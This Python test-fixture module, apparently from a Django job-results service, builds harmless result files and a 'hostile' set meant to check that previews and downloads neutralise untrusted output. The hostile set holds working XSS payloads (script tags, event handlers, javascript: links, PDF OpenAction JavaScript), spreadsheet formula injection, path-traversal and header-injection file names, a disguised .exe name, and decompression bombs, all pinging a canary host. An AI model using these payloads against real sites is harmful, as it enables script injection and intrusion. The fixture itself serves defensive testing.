"""Results as they come: what a friendly pipeline leaves, and what a hostile one does."""

from __future__ import annotations

import hashlib
import random
import zlib
from collections.abc import Mapping
from datetime import timedelta

from django.core.files.storage import storages
from django.utils import timezone

from backends.memory import MemoryStore
from jobs.models import Job, ResultFile
from jobs.results.acts import new_link
from jobs.results.previews import make_previews
from jobs.states import State
from pipelines.models import Pipeline
from tests.jobs import scenes
from tests.previews import samples, zips


def delivered(pipeline: Pipeline, files: Mapping[str, bytes], **preview: int) -> Job:
    """A job with this result, its previews made as `deliver` makes them.

    `preview`: what the manifest told that each row keeps there.
    """
    job = scenes.arrived(pipeline, State.COMPLETED)
    store = storages["default"]
    assert isinstance(store, MemoryStore)
    rows = []
    for number, (name, data) in enumerate(files.items(), start=1):
        object_name = f"results/{job.pk}/0/{number}"
        store.write(object_name, data)
        rows.append(
            ResultFile(
                job=job,
                number=number,
                name=name,
                size_bytes=len(data),
                sha256=hashlib.sha256(data).hexdigest(),
                crc32=zlib.crc32(data),
                object_name=object_name,
                preview=dict(preview),
            )
        )
    make_previews(job, rows, store)
    ResultFile.objects.bulk_create(rows)
    expires_at = timezone.now() + timedelta(days=14)
    new_link(job, expires_at=expires_at)
    job.move_to(State.DELIVERED, "The result is ready.", expires_at=expires_at)
    return job


def packed(pipeline: Pipeline, files: Mapping[str, bytes]) -> Job:
    """The same where these were so many files that the node has packed them."""
    return delivered(pipeline, {"results.zip": zips.packed(files)}, packed_files=len(files))


def friendly() -> dict[str, bytes]:
    """Plots, tables, a report, notes, an archive."""
    lots = random.Random(7)  # noqa: S311 - for a table, not for a secret
    rows = [
        f"S{n:03};{lots.choice(['treated', 'control'])};{lots.gauss(4, 1):.2f};{lots.random():.4f}"
        for n in range(412)
    ]
    csv = "sample;group;concentration [µg/ml];p\n" + "\n".join(rows) + "\n"
    sheet: list[list[object]] = [["gene", "log2 fold change", "adjusted p", "comment"]]
    sheet += [[f"ENSG{n:011}", lots.gauss(0, 2), lots.random() ** 8, "" if n % 9 else "checked"]
              for n in range(80)]  # fmt: skip
    return {
        "plots/signal over time.png": samples.plot("png", "Signal over time"),
        "plots/volcano.svg": samples.plot("svg", "Volcano"),
        "figures.pdf": samples.plot("pdf", "Figure 1"),
        "photo of the plate.jpg": samples.picture("JPEG", (1600, 900)),
        "concentrations.csv": csv.encode("cp1252"),
        "tables/differential expression.xlsx": samples.workbook(sheet, sheets=2),
        "report.html": REPORT.encode(),
        "README.md": NOTES.encode(),
        "run.log": b"".join(b"2026-11-26 09:%02d:00 INFO step %d of 240\n" % (n % 60, n)
                            for n in range(240)),
        "raw/reads.fastq.gz": b"\x1f\x8b" + bytes(5000),
        "raw/aligned.bam": b"\x1f\x8b" + bytes(90_000),
        "model.h5": b"\x89HDF\r\n" + bytes(700_000),
        "everything.zip": b"PK\x03\x04" + bytes(12_000_000),
    }  # fmt: skip


REPORT = """<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Report</title>
<style>body { font-family: Georgia, serif; margin: 2rem; max-width: 40rem }
table { border-collapse: collapse } td, th { border: 1px solid #999; padding: .3rem .6rem }</style>
</head><body><h1>Quality report</h1><p>412 samples were read; 3 were left out.</p>
<table><tr><th>Step</th><th>Samples</th></tr><tr><td>Read</td><td>412</td></tr>
<tr><td>Kept</td><td>409</td></tr></table></body></html>"""

NOTES = """# How to read this

The **signal** was smoothed with a window of 5 s; see [the method](https://journal.example/method).

1. Look at `concentrations.csv` first.
2. Then at the plots.

| group | samples |
|---|---|
| treated | 209 |
| control | 203 |

    python analyse.py --window 5
"""


def hostile(canary: str, site: str) -> dict[str, bytes]:
    """All that somebody might leave to have something run, loaded, left or shown wrongly.

    Whatever runs sets `hit` on every window that it reaches, and cries HIT on the console.
    """
    cry = (
        "for (const w of [self, parent, top]) try { w.hit = 1; w.document.title = 'HIT' }"
        f" catch {{}} console.log('HIT'); new Image().src = '{canary}/script'"
    )
    page = PAGE.replace("CANARY", canary).replace("SITE", site).replace("CRY", cry)
    svg = DRAWING.replace("CANARY", canary).replace("SITE", site).replace("CRY", cry)
    notes = MESSAGE.replace("CANARY", canary).replace("CRY", cry.replace("\n", " "))
    tag = f"<img src='{canary}/name' onerror=\"{cry[:20]}hit = 1\"><script>hit = 1</script>"
    javascript = cry.replace("(", r"\(").replace(")", r"\)")
    cells = (
        f'name,value\n"=HYPERLINK(""{canary}"")","<script>hit = 1</script>"\n"{tag[:60]}",@SUM(1)'
    )
    return {
        f'"><script>hit = 1</script>{tag}.html': page.encode(),
        "../../../../etc/passwd.svg": svg.encode(),
        "/absolute/notes.md": notes.encode(),
        "line\r\nSet-Cookie: hit=1\0\x1b[31m.csv": cells.encode(),
        "harmless\u202egpj.exe.txt": f"{tag}\n</pre>{tag}".encode(),
        "a" * 1020 + ".log": b"<plaintext>",
        "n" * 500 + "/" + "ü" * 500 + ".h5": b"\x89HDF\r\n",
        "paper.pdf": samples.pdf(
            actions=b"/OpenAction<</S/JavaScript/JS(%s)>>" % javascript.encode()
        ),
        "picture.png.html": b"\x89PNG\r\n\x1a\n" + page.encode(),
        "picture.svg": samples.picture("PNG"),
        "page.gif": b"GIF89a" + page.encode(),
        "table.xlsx": samples.workbook([["name"], [f'=HYPERLINK("{canary}")'], [tag]]),
        "bomb.png": samples.png_bomb(),
        "bomb.xlsx": samples.workbook_bomb(),
    }


PAGE = """<!doctype html><html><head>
<title>Report</title><base href="CANARY/base/">
<meta http-equiv="refresh" content="0;url=CANARY/refresh">
<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">
<meta name="referrer" content="unsafe-url"><link rel="stylesheet" href="CANARY/style.css">
<link rel="preconnect" href="CANARY"><link rel="dns-prefetch" href="CANARY">
<link rel="prefetch" href="CANARY/prefetch"><link rel="icon" href="CANARY/icon.png">
<link rel="manifest" href="CANARY/manifest"><link rel="modulepreload" href="CANARY/module.js">
<link rel="preload" as="image" href="CANARY/preload.png">
<link rel="prerender" href="CANARY/prerender">
<script>CRY</script><script src="CANARY/script.js"></script><script type="module">CRY</script>
<script type="speculationrules">{"prefetch": [{"urls": ["CANARY/speculation"]}]}</script>
<style>@import url(CANARY/import.css); @font-face { font-family: f; src: url(CANARY/font.woff2) }
body { background: url(CANARY/background.png); font-family: f }</style></head>
<body onload="CRY" onfocus="CRY"><p>The report</p>
<img src="x" onerror="CRY"><img src="CANARY/image.png"><img srcset="CANARY/set.png 2x">
<svg onload="CRY"><script>CRY</script><image href="CANARY/svg.png"/></svg>
<video src="CANARY/video.mp4" autoplay></video><audio src="CANARY/sound.mp3" autoplay></audio>
<object data="CANARY/object"></object><embed src="CANARY/embed">
<iframe src="SITE/admin/"></iframe><iframe src="CANARY/frame"></iframe>
<iframe srcdoc="<script>CRY</script>"></iframe>
<form action="CANARY/form" method="post"><button id="send">Send</button>
<input autofocus onfocus="CRY"></form>
<p><a id="run" href="javascript:CRY">Run</a>
<a id="leave" href="CANARY/left" ping="CANARY/ping">Leave</a>
<a id="top" href="CANARY/top" target="_top">Top</a>
<a id="new" href="CANARY/new" target="_blank">New</a>
<a id="save" href="CANARY/save" download>Save</a></p></body></html>"""

DRAWING = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
 width="200" height="100" onload="CRY"><script>CRY</script><script href="CANARY/script.js"/>
<style>@import url(CANARY/svg.css); rect { fill: url(CANARY/fill.svg#f) }</style>
<rect width="200" height="100"/><image xlink:href="CANARY/svg.png" width="9" height="9"/>
<use href="CANARY/use.svg#u"/><a xlink:href="javascript:CRY"><text y="20">Run</text></a>
<a href="CANARY/left" target="_top"><text y="40">Leave</text></a>
<foreignObject width="99" height="99"><body xmlns="http://www.w3.org/1999/xhtml">
<meta http-equiv="refresh" content="0;url=CANARY/refresh"/><link rel="preconnect" href="CANARY"/>
<img src="x" onerror="CRY"/><object data="SITE/admin/"/><embed src="CANARY/embed"/></body>
</foreignObject><set attributeName="onmouseover" to="CRY"/></svg>"""

MESSAGE = """# Notes <script>CRY</script>

<script>CRY</script>

<img src="CANARY/raw.png" onerror="CRY"> ![count](CANARY/count.png)

[run](javascript:CRY) [data](data:text/html,<script>CRY</script>) [admin](/admin/) <javascript:CRY>

[there](CANARY/there)

<iframe src="CANARY/frame"></iframe><meta http-equiv="refresh" content="0;url=CANARY/refresh">
"""
